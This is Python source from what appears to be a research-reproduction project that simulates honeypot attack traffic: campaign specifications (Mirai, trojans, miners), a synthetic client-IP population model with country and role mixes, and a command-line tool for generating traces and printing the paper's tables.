                    ("VN", 0.08), ("RU", 0.06), ("IR", 0.06), ("MX", 0.05),
                    ("TR", 0.04), ("TH", 0.04), ("ID", 0.05)]
_URI_COUNTRIES = [("US", 0.30), ("NL", 0.16), ("FR", 0.13), ("BG", 0.10),
                  ("RO", 0.09), ("DE", 0.08), ("GB", 0.05), ("RU", 0.05),
                  ("CA", 0.04)]


def marquee_campaigns() -> List[CampaignSpec]:
    """The named campaigns behind the paper's Tables 4-6."""
    mirai = ThreatTag.MIRAI
    trojan = ThreatTag.TROJAN
    malicious = ThreatTag.MALICIOUS
    miner = ThreatTag.MINER
    suspicious = ThreatTag.SUSPICIOUS
    unknown = ThreatTag.UNKNOWN
    drop = ScriptKind.DROPPER
    key = ScriptKind.KEY_INJECT
    tok = ScriptKind.FILE_TOKEN
    chp = ScriptKind.CHPASSWD

    specs = [
        # The dominant key-inject trojan: all pots, essentially every day.
        CampaignSpec("H1", trojan, key, 25_688_228, 118_924, 1, 484, 0),
        # Three-IP campaign, half the period with breaks, almost all pots.
        CampaignSpec("H2", unknown, tok, 153_672, 3, 100, 252, 202, intermittent=True),
        CampaignSpec("H3", trojan, key, 110_280, 12_698, 150, 119, 150),
        CampaignSpec("H4", mirai, drop, 105_102, 1_288, 120, 20, 203,
                     countries=_MIRAI_COUNTRIES),
        CampaignSpec("H5", mirai, drop, 96_523, 1_027, 20, 451, 221,
                     countries=_MIRAI_COUNTRIES),
        CampaignSpec("H6", malicious, tok, 82_000, 4, 210, 58, 92),
        CampaignSpec("H7", malicious, chp, 74_000, 3, 300, 33, 55),
        CampaignSpec("H8", mirai, drop, 61_000, 165, 260, 4, 178,
                     countries=_MIRAI_COUNTRIES),
        CampaignSpec("H9", trojan, key, 57_726, 43, 180, 220, 173, intermittent=True),
        CampaignSpec("H10", mirai, drop, 54_464, 488, 330, 6, 209,
                     countries=_MIRAI_COUNTRIES),
        # The two miners: one single-client month-long, one 200-client burst.
        CampaignSpec("H11", miner, ScriptKind.MINER, 48_000, 1, 240, 31, 212),
        CampaignSpec("H12", miner, ScriptKind.MINER, 43_000, 200, 190, 12, 190,
                     countries=_URI_COUNTRIES),
        CampaignSpec("H13", malicious, chp, 40_500, 310, 90, 88, 160),
        CampaignSpec("H14", malicious, tok, 38_000, 12, 60, 75, 140),
        CampaignSpec("H15", unknown, tok, 36_000, 850, 370, 42, 201),
        CampaignSpec("H16", malicious, tok, 34_000, 2_100, 140, 29, 188),
        CampaignSpec("H17", mirai, drop, 33_000, 95, 410, 14, 120,
                     countries=_MIRAI_COUNTRIES),
        CampaignSpec("H18", mirai, drop, 31_500, 640, 280, 11, 195,
                     countries=_MIRAI_COUNTRIES),
        CampaignSpec("H19", unknown, tok, 30_200, 1_900, 55, 7, 198),
        CampaignSpec("H20", trojan, chp, 29_800, 56, 230, 130, 99, intermittent=True),
        # High-client-count short campaigns (Table 5).
        CampaignSpec("H21", suspicious, tok, 16_670, 5_897, 200, 9, 205),
        CampaignSpec("H22", unknown, tok, 4_680, 2_213, 310, 16, 206),
        CampaignSpec("H23", unknown, tok, 1_803, 1_310, 250, 63, 126, intermittent=True),
        # The Mirai family: pinned 75-77 pot subset, root/1234 credentials.
        CampaignSpec("H24", mirai, drop, 2_279, 1_144, 45, 425, 77,
                     pot_group="mirai77", client_pool="mirai-fam",
                     password="1234", countries=_MIRAI_COUNTRIES),
        CampaignSpec("H25", mirai, drop, 2_250, 1_126, 47, 424, 77,
                     pot_group="mirai77", client_pool="mirai-fam",
                     password="1234", countries=_MIRAI_COUNTRIES),
        CampaignSpec("H26", mirai, drop, 2_187, 1_108, 49, 423, 77,
                     pot_group="mirai77", client_pool="mirai-fam",
                     password="1234", countries=_MIRAI_COUNTRIES),
        CampaignSpec("H27", malicious, tok, 1_208, 1_067, 160, 30, 113),
        CampaignSpec("H28", mirai, drop, 1_485, 752, 170, 305, 76,
                     pot_group="mirai77", client_pool="mirai-fam",
                     password="1234", countries=_MIRAI_COUNTRIES),
        CampaignSpec("H29", mirai, drop, 1_503, 750, 165, 312, 76,
                     pot_group="mirai77", client_pool="mirai-fam",
                     password="1234", countries=_MIRAI_COUNTRIES),
        CampaignSpec("H30", mirai, drop, 1_443, 736, 172, 305, 76,
                     pot_group="mirai77", client_pool="mirai-fam",
                     password="1234", countries=_MIRAI_COUNTRIES),
        CampaignSpec("H31", suspicious, tok, 1_191, 704, 350, 3, 185),
        CampaignSpec("H32", mirai, drop, 1_213, 610, 195, 281, 75,
                     pot_group="mirai77", client_pool="mirai-fam",
                     password="1234", countries=_MIRAI_COUNTRIES),
        # Long-lived farm-wide Mirai variants.
        CampaignSpec("H33", mirai, drop, 29_227, 575, 15, 456, 221,
                     countries=_MIRAI_COUNTRIES),
        CampaignSpec("H34", trojan, key, 761, 448, 120, 301, 118, intermittent=True),
        CampaignSpec("H35", unknown, tok, 2_809, 416, 440, 8, 193),
        CampaignSpec("H36", mirai, drop, 6_213, 399, 130, 325, 220,
                     countries=_MIRAI_COUNTRIES),
        CampaignSpec("H37", mirai, drop, 4_875, 27, 175, 274, 217,
                     countries=_MIRAI_COUNTRIES),
        # Few-IP long-lived trojans ("frustrating that nobody blocks them").
        CampaignSpec("H38", trojan, key, 10_834, 4, 250, 172, 197, intermittent=True),
        CampaignSpec("H39", mirai, drop, 981, 19, 290, 159, 75,
                     pot_group="mirai77", client_pool="mirai-fam",
                     password="1234", countries=_MIRAI_COUNTRIES),
        CampaignSpec("H40", unknown, tok, 7_532, 5, 300, 151, 4, intermittent=True),
        CampaignSpec("H41", trojan, key, 8_309, 4, 310, 145, 193, intermittent=True),
        CampaignSpec("H42", trojan, chp, 660, 13, 320, 145, 63, intermittent=True),
    ]
    # CMD+URI campaigns (droppers, miners) get the URI-heavy country mix and
    # a different protocol split; key-inject/token campaigns are SSH-heavy.
    for spec in specs:
        if spec.kind in (ScriptKind.DROPPER,):
            spec.ssh_share = 0.62  # Table 1: CMD+URI is 62.45% SSH
            spec.dedicated_uri_pool = True
        elif spec.kind is ScriptKind.MINER:
            spec.ssh_share = 0.85
            spec.dedicated_uri_pool = True
        else:
            spec.ssh_share = 0.95
    return specs


#: Tag mix of the hash long tail (most midtail hashes stay unidentified).
_MIDTAIL_TAGS = [
    (ThreatTag.UNKNOWN, 0.48),
    (ThreatTag.MIRAI, 0.26),
    (ThreatTag.TROJAN, 0.12),
    (ThreatTag.MALICIOUS, 0.09),
    (ThreatTag.SUSPICIOUS, 0.05),
]

_MIDTAIL_KINDS = [
    (ScriptKind.FILE_TOKEN, 0.45),
    (ScriptKind.DROPPER, 0.30),
    (ScriptKind.KEY_INJECT, 0.15),
    (ScriptKind.CHPASSWD, 0.10),
]


def midtail_campaigns(
    count: int,
    rng: RngStream,
    intel_coverage: float = 0.04,
) -> List[CampaignSpec]:
    """Generate ``count`` long-tail campaigns.

    Durations follow the paper's Figure 22 (most hashes active a single
    day; Mirai-tagged ones rarely beyond 30 days; trojans longest), client
    counts follow the Figure 20 long tail, and only ``intel_coverage`` of
    them get a threat-intel entry (the paper finds entries for <2% of all
    hashes).
    """
    specs: List[CampaignSpec] = []
    tags = [t for t, _ in _MIDTAIL_TAGS]
    tag_weights = [w for _, w in _MIDTAIL_TAGS]
    kinds = [k for k, _ in _MIDTAIL_KINDS]
    kind_weights = [w for _, w in _MIDTAIL_KINDS]
    # A few "variant flood" days: malware build farms push dozens of fresh
    # variants at once, producing the unique-hash spikes of Figure 17.
    flood_days = [rng.randint(20, OBSERVATION_DAYS - 5) for _ in range(6)]

    for i in range(count):
        tag = rng.choice(tags, p=tag_weights)
        kind = rng.choice(kinds, p=kind_weights)
        n_days = _sample_duration(rng, tag)
        n_clients = _sample_clients(rng)
        is_flood = rng.bernoulli(0.12)
        if is_flood:
            n_days = 1
        # Session volume grows with clients and days, with heavy noise.
        per_client_day = rng.pareto(2.5, scale=1.0)
        sessions = max(
            n_days,
            int(n_clients * max(1, n_days // 3) * per_client_day),
        )
        n_pots = _sample_pots(rng, n_clients, n_days)
        if is_flood:
            start_day = flood_days[rng.randint(0, len(flood_days))]
        else:
            start_day = rng.randint(1, max(2, OBSERVATION_DAYS - n_days))
        specs.append(
            CampaignSpec(
                campaign_id=f"M{i + 1:05d}",
                tag=tag,
                kind=kind,
                sessions=sessions,
                n_clients=n_clients,
                start_day=start_day,
                n_active_days=n_days,
                n_honeypots=n_pots,
                intermittent=rng.bernoulli(0.35) and n_days > 5,
                ssh_share=0.62 if kind is ScriptKind.DROPPER else 0.95,
                # Mid-tail droppers originate from the US/EU-heavy hosting
                # space of Fig 23e; other mirai-tagged campaigns keep the
                # IoT-heavy origin mix.
                countries=(
                    _URI_COUNTRIES if kind is ScriptKind.DROPPER
                    else _MIRAI_COUNTRIES if tag is ThreatTag.MIRAI
                    else None
                ),
                in_intel_db=rng.bernoulli(intel_coverage),
            )
        )
    return specs


def _sample_duration(rng: RngStream, tag: ThreatTag) -> int:
    """Campaign active-day counts per Figure 22's per-tag ECDFs."""
    if rng.bernoulli(0.55):
        return 1
    if tag is ThreatTag.MIRAI:
        # Mostly under 30 days.
        return min(1 + int(rng.pareto(1.8, scale=1.0)), 45)
    if tag is ThreatTag.TROJAN:
        # Trojans linger longest.
        return min(1 + int(rng.pareto(0.9, scale=2.0)), OBSERVATION_DAYS - 10)
    return min(1 + int(rng.pareto(1.3, scale=1.0)), 200)


def _sample_clients(rng: RngStream) -> int:
    """Clients per campaign: heavy tail from 1 up to a few thousand."""
    if rng.bernoulli(0.45):
        return rng.randint(1, 4)  # single-actor campaigns
    return min(1 + int(rng.pareto(1.1, scale=2.0)), 4_000)


def _sample_pots(rng: RngStream, n_clients: int, n_days: int) -> int:
    """Honeypots contacted: grows with campaign size, capped at the farm."""
    base = 1 + int(rng.pareto(1.0, scale=1.0))
    reach = base + int(0.08 * n_clients) + 2 * n_days
    if rng.bernoulli(0.07):
        reach = max(reach, 180 + rng.randint(0, 42))
    return max(1, min(reach, 221))
