"""The client-IP population model.

Every session in the dataset originates from one of ~2.1 M client IPv4
addresses in ~17.7 k ASes.  This module synthesises that population with the
paper's structure:

* geographic mix led by China (31%), India (9%), the US (8%), Russia,
  Brazil, Taiwan, Mexico and Iran, with a long country tail;
* role profiles — scanning, scouting, intrusion — with a large
  scanning-only majority and a substantial multi-role share;
* per-category geographic tilts (e.g. NO_CMD is Russia/Germany-heavy,
  CMD+URI is US/EU-heavy), matching Section 7.3;
* heavy-tailed activity lifetimes (most IPs seen a single day, a handful
  active almost every day) and targeting breadth (>40% contact exactly one
  honeypot, 2% contact more than half the farm).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

import numpy as np

from repro.geo.continents import COUNTRY_CONTINENT
from repro.geo.registry import GeoRegistry, NetworkType
from repro.net.pools import AddressPool
from repro.simulation.clock import OBSERVATION_DAYS
from repro.simulation.rng import RngStream


class ClientRole(enum.IntFlag):
    """Session categories a client participates in (bitmask)."""

    SCAN = 1  # NO_CRED sessions
    SCOUT = 2  # FAIL_LOG sessions
    NOCMD = 4  # NO_CMD sessions
    CMD = 8  # CMD sessions
    CMDURI = 16  # CMD+URI sessions


#: Role-combination mix (normalised at build time). Chosen so that the
#: per-category unique-IP totals land near the paper's (NO_CRED 81%,
#: FAIL_LOG 20%, CMD 21%, NO_CMD 7.6%, CMD+URI 0.8% of all IPs) with a
#: scanning-only majority and a large multi-role share.
ROLE_MIX: List[Tuple[int, float]] = [
    (ClientRole.SCAN, 0.450),
    (ClientRole.SCOUT, 0.025),
    (ClientRole.CMD, 0.035),
    (ClientRole.NOCMD, 0.025),
    (ClientRole.CMDURI | ClientRole.CMD, 0.0015),
    (ClientRole.SCAN | ClientRole.SCOUT, 0.095),
    (ClientRole.SCAN | ClientRole.CMD, 0.105),
    (ClientRole.SCAN | ClientRole.NOCMD, 0.040),
    (ClientRole.SCAN | ClientRole.SCOUT | ClientRole.CMD, 0.115),
    (ClientRole.SCOUT | ClientRole.CMD, 0.022),
    (ClientRole.SCAN | ClientRole.SCOUT | ClientRole.NOCMD, 0.006),
    (ClientRole.SCAN | ClientRole.CMD | ClientRole.CMDURI, 0.004),
    (ClientRole.SCOUT | ClientRole.CMD | ClientRole.CMDURI, 0.0012),
    (ClientRole.SCAN | ClientRole.SCOUT | ClientRole.CMD | ClientRole.CMDURI, 0.0018),
]

#: Overall country mix (Figure 10a): share of all client IPs.
OVERALL_COUNTRY_MIX: List[Tuple[str, float]] = [
    ("CN", 0.36), ("IN", 0.09), ("US", 0.065), ("RU", 0.05), ("BR", 0.05),
    ("TW", 0.05), ("MX", 0.03), ("IR", 0.03), ("VN", 0.025), ("JP", 0.02),
    ("KR", 0.02), ("ID", 0.018), ("TH", 0.015), ("AR", 0.013), ("DE", 0.013),
    ("SG", 0.012), ("FR", 0.011), ("GB", 0.010), ("NL", 0.010), ("TR", 0.010),
    ("UA", 0.009), ("PK", 0.009), ("EG", 0.008), ("IT", 0.008), ("PL", 0.008),
    ("CO", 0.007), ("PH", 0.007), ("BD", 0.007), ("MY", 0.006), ("RO", 0.006),
    ("BG", 0.006), ("CL", 0.006), ("ZA", 0.006), ("SA", 0.005), ("HK", 0.005),
    ("CA", 0.005), ("AU", 0.005), ("ES", 0.005), ("SE", 0.004), ("CZ", 0.004),
    ("PE", 0.004), ("EC", 0.004), ("MA", 0.004), ("NG", 0.004), ("KE", 0.003),
    ("DZ", 0.003), ("TN", 0.003), ("GR", 0.003), ("HU", 0.003), ("AT", 0.003),
    ("CH", 0.002), ("BE", 0.002), ("PT", 0.002), ("DK", 0.002), ("FI", 0.002),
    ("NO", 0.002), ("IE", 0.002), ("IL", 0.002), ("AE", 0.002), ("KZ", 0.002),
    ("LT", 0.002), ("LV", 0.001), ("EE", 0.001), ("MD", 0.001), ("RS", 0.001),
    ("HR", 0.001), ("SK", 0.001), ("SI", 0.001), ("UY", 0.001), ("VE", 0.001),
    ("BO", 0.001), ("PY", 0.001), ("DO", 0.001), ("GT", 0.001), ("CR", 0.001),
    ("PA", 0.001), ("LK", 0.001), ("NP", 0.001), ("KH", 0.001), ("MN", 0.001),
    ("GH", 0.001), ("SN", 0.001), ("TZ", 0.001), ("UG", 0.001), ("MU", 0.001),
    ("NZ", 0.001), ("FJ", 0.001),
]

#: Per-role country tilts (Section 7.3 / Figure 23). Multiplied into the
#: overall mix for clients holding that role.
ROLE_COUNTRY_TILT: Dict[int, Dict[str, float]] = {
    int(ClientRole.SCAN): {"US": 1.1, "TW": 1.4, "RU": 1.3, "IR": 1.4},
    int(ClientRole.SCOUT): {"US": 2.6, "JP": 2.6, "VN": 2.2, "SG": 3.0, "IN": 1.2},
    int(ClientRole.CMD): {"US": 1.3, "JP": 1.9, "IN": 1.1, "BR": 1.2, "SA": 1.8},
    int(ClientRole.NOCMD): {"RU": 6.0, "DE": 5.0, "US": 1.3, "VN": 2.0, "SE": 6.0},
    int(ClientRole.CMDURI): {
        "US": 4.0, "NL": 9.0, "FR": 7.0, "BG": 12.0, "RO": 9.0, "CN": 0.2,
    },
}

#: Client-AS network-type mix (scanning infrastructure is datacenter-heavy,
#: botnets are residential).
_CLIENT_AS_TYPES = [
    (NetworkType.RESIDENTIAL, 0.45),
    (NetworkType.DATACENTER, 0.20),
    (NetworkType.CLOUD, 0.12),
    (NetworkType.MOBILE, 0.13),
    (NetworkType.BUSINESS, 0.07),
    (NetworkType.ACADEMIC, 0.03),
]


@dataclass
class PopulationConfig:
    """Sizing knobs for the client population."""

    n_clients: int = 10_000
    #: Target clients-per-AS ratio (paper: 2.1 M IPs over 17.7 k ASes ~ 120).
    clients_per_as: int = 120
    #: Number of clients active nearly every day (paper: >100 of 2.1 M).
    n_always_on: int = 8
    #: Probability an IP is seen on a single day only. Set above the
    #: paper's >50% because campaign membership adds extra active days on
    #: top of a client's own calendar.
    single_day_share: float = 0.75


@dataclass
class ClientPopulation:
    """Column-oriented client population."""

    ip: np.ndarray  # uint32
    country: np.ndarray  # int16 index into `country_codes`
    asn: np.ndarray  # int32
    roles: np.ndarray  # uint8 bitmask of ClientRole
    first_day: np.ndarray  # int16
    n_days: np.ndarray  # int16 active-day count
    rate: np.ndarray  # float32 relative session-rate weight
    breadth: np.ndarray  # int16 number of distinct honeypots targeted
    country_codes: List[str]
    registry: GeoRegistry
    config: PopulationConfig

    def __len__(self) -> int:
        return len(self.ip)

    def with_role(self, role: ClientRole) -> np.ndarray:
        """Indices of clients holding ``role``."""
        return np.nonzero((self.roles & int(role)) != 0)[0]

    def country_code(self, client_index: int) -> str:
        return self.country_codes[int(self.country[client_index])]

    def role_count(self, role: ClientRole) -> int:
        return int(((self.roles & int(role)) != 0).sum())

    def sample_intruders(
        self,
        rng: RngStream,
        count: int,
        role: ClientRole = ClientRole.CMD,
        countries: Optional[Sequence[Tuple[str, float]]] = None,
    ) -> np.ndarray:
        """Sample ``count`` clients holding ``role``, tilted by country.

        Campaigns use this to recruit their client pools; a Mirai campaign
        passes its IoT-heavy country mix so its bots mostly sit in the
        matching regions.
        """
        candidates = self.with_role(role)
        if len(candidates) == 0:
            raise RuntimeError(f"population has no clients with role {role!r}")
        count = min(count, len(candidates))
        if countries is None:
            picked = rng.choice_indices(len(candidates), size=count, replace=False)
            return candidates[np.asarray(picked)]
        weight_by_code = {cc: w for cc, w in countries}
        weights = np.full(len(candidates), 0.05, dtype=float)
        for pos, idx in enumerate(candidates):
            code = self.country_codes[int(self.country[idx])]
            if code in weight_by_code:
                weights[pos] = weight_by_code[code] + 0.05
        weights /= weights.sum()
        picked = rng.choice_indices(len(candidates), size=count, p=weights, replace=False)
        return candidates[np.asarray(picked)]


def _normalised_mix(pairs: Sequence[Tuple[str, float]]) -> Tuple[List[str], np.ndarray]:
    codes = [cc for cc, _ in pairs]
    weights = np.array([w for _, w in pairs], dtype=float)
    return codes, weights / weights.sum()


def build_client_ases(
    registry: GeoRegistry,
    rng: RngStream,
    n_clients: int,
    clients_per_as: int,
) -> Dict[str, List]:
    """Register client ASes per country, proportional to the country mix."""
    codes, weights = _normalised_mix(OVERALL_COUNTRY_MIX)
    n_ases = max(len(codes), n_clients // max(clients_per_as, 1))
    type_values = [t for t, _ in _CLIENT_AS_TYPES]
    type_weights = [w for _, w in _CLIENT_AS_TYPES]
    per_country: Dict[str, List] = {}
    for code, weight in zip(codes, weights):
        count = max(1, int(round(weight * n_ases)))
        records = []
        for _ in range(count):
            ntype = rng.choice(type_values, p=type_weights)
            records.append(
                registry.register_as(country=code, network_type=ntype,
                                     name=f"CLIENT-{code}")
            )
        per_country[code] = records
    return per_country


def build_population(
    config: PopulationConfig,
    registry: GeoRegistry,
    rng: RngStream,
) -> ClientPopulation:
    """Synthesise the full client population."""
    n = config.n_clients
    combo_values = [int(c) for c, _ in ROLE_MIX]
    combo_weights = np.array([w for _, w in ROLE_MIX], dtype=float)
    combo_weights /= combo_weights.sum()
    roles = np.array(
        [combo_values[i] for i in rng.choice_indices(len(combo_values), size=n,
                                                     p=combo_weights)],
        dtype=np.uint8,
    )

    # Countries: overall mix modulated by per-role tilts.
    codes, base_weights = _normalised_mix(OVERALL_COUNTRY_MIX)
    code_index = {cc: i for i, cc in enumerate(codes)}
    country = np.zeros(n, dtype=np.int16)
    tilt_cache: Dict[int, np.ndarray] = {}
    for i in range(n):
        mask = int(roles[i])
        weights = tilt_cache.get(mask)
        if weights is None:
            weights = base_weights.copy()
            for role_bit, tilt in ROLE_COUNTRY_TILT.items():
                if mask & role_bit:
                    for cc, factor in tilt.items():
                        if cc in code_index:
                            weights[code_index[cc]] *= factor
            weights = weights / weights.sum()
            tilt_cache[mask] = weights
        country[i] = rng.choice_index(len(codes), p=weights)

    # ASes and IPs.
    per_country_ases = build_client_ases(registry, rng, n, config.clients_per_as)
    pools: Dict[int, AddressPool] = {}
    ip = np.zeros(n, dtype=np.uint32)
    asn = np.zeros(n, dtype=np.int32)
    ip_rng = rng.child("ips")
    for i in range(n):
        code = codes[int(country[i])]
        records = per_country_ases[code]
        record = records[ip_rng.randint(0, len(records))]
        pool = pools.get(record.asn)
        if pool is None:
            pool = record.pool()
            pools[record.asn] = pool
        ip[i] = pool.sample(ip_rng)
        asn[i] = record.asn

    # Activity lifetimes: most IPs are seen once; a heavy tail lingers.
    life_rng = rng.child("lifetimes")
    first_day = np.zeros(n, dtype=np.int16)
    n_days = np.ones(n, dtype=np.int16)
    for i in range(n):
        # Arrival skewed later (it takes scanners ~2 months to discover the
        # farm, and the IP population keeps growing).
        u = life_rng.random()
        first_day[i] = int((u ** 0.8) * (OBSERVATION_DAYS - 1))
        if life_rng.bernoulli(config.single_day_share):
            n_days[i] = 1
        else:
            span = OBSERVATION_DAYS - first_day[i]
            k = 1 + int(life_rng.pareto(0.85, scale=1.0))
            n_days[i] = max(1, min(k, span))
    # Always-on clients: active from (nearly) day one, >90% of all days.
    always = life_rng.child("always")
    for i in range(min(config.n_always_on, n)):
        first_day[i] = always.randint(0, 8)
        n_days[i] = int(OBSERVATION_DAYS * always.uniform(0.92, 1.0)) - first_day[i]

    # Session-rate weights: heavy-tailed, so a few IPs dominate volume.
    rate = np.zeros(n, dtype=np.float32)
    rate_rng = rng.child("rate-values")
    for i in range(n):
        rate[i] = rate_rng.lognormal(0.0, 1.3)

    # Targeting breadth (Figure 12): >40% one pot, 18% >10, 2% >110.
    # The heaviest-rate clients sweep broadly (mass scanners touch most of
    # the farm), which keeps the per-pot session distribution governed by
    # pot session-attractiveness rather than by target-set membership.
    breadth = np.ones(n, dtype=np.int16)
    b_rng = rng.child("breadth")
    rate_cut = float(np.quantile(rate, 0.93)) if n else 0.0
    for i in range(n):
        breadth[i] = _sample_breadth(b_rng, int(roles[i]))
        # Heavy-rate clients and long-lived clients are sweep scanners:
        # their volume spreads over much of the farm instead of hammering
        # a single pot.
        if (rate[i] >= rate_cut or n_days[i] > 30) and breadth[i] < 60:
            breadth[i] = b_rng.randint(60, 222)

    return ClientPopulation(
        ip=ip,
        country=country,
        asn=asn,
        roles=roles,
        first_day=first_day,
        n_days=n_days,
        rate=rate,
        breadth=breadth,
        country_codes=codes,
        registry=registry,
        config=config,
    )


def _sample_breadth(rng: RngStream, role_mask: int) -> int:
    """Distinct honeypots a client will contact over its lifetime."""
    # Scouting (FAIL_LOG) clients sweep the farm — the paper's Figure 12
    # exception; multi-role clients also reach further than single-role.
    scout = bool(role_mask & int(ClientRole.SCOUT))
    p_single = 0.34 if scout else 0.52
    u = rng.random()
    if u < p_single:
        return 1
    if u < p_single + 0.36:
        return rng.randint(2, 11)
    if u < p_single + 0.36 + (0.27 if scout else 0.175):
        return rng.randint(11, 111)
    return rng.randint(111, 222)
