"""Command-line interface: ``python -m repro <command>``.

Commands:

* ``generate`` — generate a scaled trace and save it (npz or jsonl);
* ``report``   — generate (or load) a trace and print the paper-vs-measured
  summary;
* ``tables``   — print Tables 1-6 for a generated trace.
"""

from __future__ import annotations

import argparse
import sys


def _scale(value: str) -> float:
    """Parse ``--scale``: canonically a denominator ("4000").

    The fraction spellings left over from the first CLI ("1/4000",
    "0.00025") still parse — both spellings of the same scale produce the
    same config — but are deprecated aliases: the canonical flag is the
    downscale denominator vs the paper's 402 M sessions, and the alias
    prints a note pointing at it.
    """
    try:
        if "/" in value:
            num, _, den = value.partition("/")
            parsed = float(num) / float(den)
        else:
            parsed = float(value)
    except ZeroDivisionError:
        raise argparse.ArgumentTypeError("--scale denominator must be nonzero")
    if parsed <= 0:
        raise argparse.ArgumentTypeError("--scale must be positive")
    if "/" in value or parsed < 1:
        denominator = 1.0 / parsed
        spelled = (f"{denominator:g}" if denominator == int(denominator)
                   else f"{denominator!r}")
        print(f"note: fractional --scale {value!r} is deprecated; "
              f"pass the denominator (--scale {spelled})", file=sys.stderr)
    return parsed


def _add_scenario_args(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--scale", type=_scale, default=4000.0,
                        help="downscale denominator vs the paper's 402M "
                             "sessions (e.g. 4000), or the fraction itself "
                             "(0.00025 or 1/4000); default 4000")
    parser.add_argument("--seed", type=int, default=2023)
    parser.add_argument("--hash-scale", type=float, default=None,
                        help="unique-hash budget vs the paper's 64k "
                             "(default: derived from --scale)")
    parser.add_argument("--workers", type=int, default=None,
                        help="generate with N worker processes (sharded "
                             "mode; output is identical for every N). "
                             "Default: $REPRO_WORKERS if set, else the "
                             "single-pass serial generator")
    parser.add_argument("--backend", default=None,
                        choices=("serial", "inline", "pool", "queue"),
                        help="execution backend for generation (see "
                             "repro.sched; sharded backends are "
                             "byte-identical). Default: derived from "
                             "--workers — serial without workers, inline "
                             "for 1, pool otherwise")
    parser.add_argument("--trace-file", default=None, metavar="PATH",
                        help="work-trace JSONL for sharded backends: "
                             "replayed when PATH exists, recorded there "
                             "otherwise")
    parser.add_argument("--queue-root", default=None, metavar="DIR",
                        help="with --backend queue, spool tasks under DIR "
                             "so external 'python -m repro.sched.node DIR' "
                             "workers can service them (default: a fresh "
                             "temporary spool)")
    parser.add_argument("--metrics", nargs="?", const="-", default=None,
                        metavar="PATH",
                        help="after the command, print the pipeline stage "
                             "timings and counters to stderr; with PATH, "
                             "also dump the registry as JSON there")
    parser.add_argument("--cache-dir", default=None, metavar="DIR",
                        help="cache generated datasets under DIR, keyed by "
                             "a fingerprint of the scenario config; a rerun "
                             "with the same config loads instead of "
                             "regenerating (default: $REPRO_CACHE if set)")
    parser.add_argument("--ledger", nargs="?", const="run_ledger.jsonl",
                        default=None, metavar="PATH",
                        help="write the run manifest (config fingerprint, "
                             "environment snapshot, per-task telemetry, "
                             "alerts, artifact digests, final store sha256) "
                             "as JSON lines to PATH after the command; bare "
                             "--ledger uses run_ledger.jsonl (REPRO_LEDGER "
                             "env does the same)")
    _add_trace_args(parser)


def _add_trace_args(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--trace", nargs="?", const="-", default=None,
                        metavar="PATH",
                        help="record the flight-recorder event stream; bare "
                             "--trace renders the span timeline to stderr, "
                             "with PATH the events also stream there as "
                             "JSONL (REPRO_TRACE env does the same)")
    parser.add_argument("--trace-chrome", default=None, metavar="PATH",
                        help="with tracing on, also write the Chrome "
                             "trace_event JSON for about://tracing")


def _add_load_arg(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--load", default=None, metavar="PATH",
                        help="analyse an existing trace instead of "
                             "generating: a dataset directory written by "
                             "save_dataset, or a bare .npz / .jsonl[.gz] "
                             "trace (deployment is rebuilt from --seed, "
                             "intel starts empty)")


def _config(args):
    from repro.workload import ScenarioConfig

    denominator = args.scale if args.scale > 1 else 1.0 / args.scale
    extra = {}
    if args.hash_scale is not None:
        extra["hash_scale"] = args.hash_scale
    return ScenarioConfig.from_denominator(
        denominator, seed=args.seed, **extra
    )


def _run_options(args):
    """The :class:`repro.api.RunOptions` for a scenario subcommand.

    The backend defaults from the worker count the way the pre-façade CLI
    behaved: no workers -> the serial single-pass generator, one worker ->
    inline, more -> the multiprocess pool.  ``--workers`` falls back to
    ``$REPRO_WORKERS`` (the same contract the benchmarks honour).
    """
    import os

    from repro.api import RunOptions, WORKERS_ENV_VAR
    from repro.workload.cache import resolve_cache_dir

    workers = getattr(args, "workers", None)
    if workers is None:
        raw = os.environ.get(WORKERS_ENV_VAR, "").strip()
        workers = int(raw) if raw else None
    backend = getattr(args, "backend", None)
    if backend is None:
        backend = "serial" if workers is None else \
            ("inline" if workers == 1 else "pool")
    return RunOptions(
        backend=backend,
        workers=workers,
        cache=resolve_cache_dir(getattr(args, "cache_dir", None)),
        trace_file=getattr(args, "trace_file", None),
        queue_root=getattr(args, "queue_root", None),
    )


def _dataset(args):
    """The dataset a report-style command should analyse.

    ``--load`` wins (no generation at all); otherwise generate through the
    :mod:`repro.api` façade, consulting the fingerprint cache when
    ``--cache-dir`` or ``$REPRO_CACHE`` names one.
    """
    config = _config(args)
    load_path = getattr(args, "load", None)
    if load_path:
        from repro.api import load

        try:
            return load(load_path, config)
        except ValueError as exc:
            raise SystemExit(f"--load: {exc}")

    from repro.api import generate

    return generate(config, options=_run_options(args))


def cmd_generate(args) -> int:
    from repro.api import generate
    from repro.obs import get_ledger, sha256_file
    from repro.store.io import write_jsonl
    from repro.store.npz import save_npz

    config = _config(args)
    print(f"generating {config.total_sessions:,} sessions "
          f"(seed {config.seed}) ...", file=sys.stderr)
    dataset = generate(config, options=_run_options(args))
    if args.out.endswith((".jsonl", ".jsonl.gz")):
        count = write_jsonl(iter(dataset.store), args.out)
        print(f"wrote {count:,} records to {args.out}")
    else:
        save_npz(dataset.store, args.out)
        print(f"wrote {len(dataset.store):,} sessions to {args.out}")
    ledger = get_ledger()
    if ledger is not None:
        ledger.record_artifact("store", args.out, sha256_file(args.out))
    return 0


def cmd_report(args) -> int:
    from repro.core.report import print_summary

    dataset = _dataset(args)
    print(print_summary(dataset))
    if getattr(args, "streaming", False):
        from repro.analytics import StreamingAnalytics

        analytics = StreamingAnalytics()
        analytics.ingest_store(dataset.store)
        analytics.export_gauges()
        print("\n-- streaming analytics (sketch answers vs the batch "
              "numbers above) --")
        print(analytics.render_panels())
    return 0


def cmd_tables(args) -> int:
    from repro.core.tables import (
        format_table,
        table1_categories,
        table2_passwords,
        table3_commands,
        tables_4_5_6,
    )

    dataset = _dataset(args)
    store = dataset.store
    labels = {c.primary_hash: c.campaign_id for c in dataset.campaigns
              if c.primary_hash}

    t1 = table1_categories(store)
    print("Table 1 — session categories")
    print(format_table(
        [(cat, f"{share:.2%}", f"{t1.ssh_share_of_category[cat]:.2%}")
         for cat, share in t1.overall.items()],
        ["category", "share", "ssh share"]))
    print("\nTable 2 — top successful passwords")
    print(format_table(table2_passwords(store), ["password", "logins"]))
    print("\nTable 3 — top commands")
